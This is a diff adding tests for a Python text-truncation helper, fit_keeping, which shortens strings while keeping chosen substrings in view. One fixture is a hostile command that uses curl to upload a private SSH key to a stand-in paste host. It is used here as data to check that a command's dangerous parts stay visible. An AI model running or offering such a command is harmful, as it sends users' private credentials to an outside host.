@@ -8,11 +8,13 @@ from hypothesis import strategies as st
 from rich.cells import cell_len
 
 from sb.fitting import (
+    ELLIPSIS,
     Cut,
     cell_width,
     count,
     fit,
     fit_hits,
+    fit_keeping,
     home_as_tilde,
     money,
     padded,
@@ -94,6 +96,34 @@ def test_hits_name_the_same_characters_after_the_cut(
 )
 def test_each_kind_of_text_is_cut_where_it_says_least(text: str, cells: int, cut: Cut, fitted: str) -> None:
     assert fit(text, cells, cut) == fitted
+
+
+LEAK = "curl -F key=@/data/ada/.ssh/id_rsa https://paste.example/upload?ref=build-cache"
+
+
+@pytest.mark.parametrize(
+    ("cells", "fitted"),
+    [
+        (26, "curl…id_rsa…paste.example…"),
+        (40, "curl…data/ada/.ssh/id_rsa…paste.example…"),
+        (60, "curl -F key=@/data/ada/.ssh/id_rsa https://paste.example/up…"),
+    ],
+)
+def test_what_makes_a_command_dangerous_stays_in_view(cells: int, fitted: str) -> None:
+    assert fit_keeping(LEAK, cells, ("/data/ada/.ssh/id_rsa", "paste.example")) == fitted
+
+
+@given(st.lists(st.text("ab/.-漢", min_size=1, max_size=9), max_size=8), st.integers(0, 60), st.data())
+def test_words_are_kept_within_the_cells_and_nothing_is_invented(
+    words: list[str], cells: int, data: st.DataObject
+) -> None:
+    text = " ".join(words)
+    wanted = tuple(data.draw(st.lists(st.sampled_from(words), max_size=3))) if words else ()
+    kept = fit_keeping(text, cells, wanted)
+    assert cell_width(kept) <= cells
+    place = 0
+    for piece in kept.split(ELLIPSIS):
+        place = text.index(piece, place) + len(piece)
 
 
 def test_a_match_far_into_a_memory_is_shown_with_what_stands_around_it() -> None:
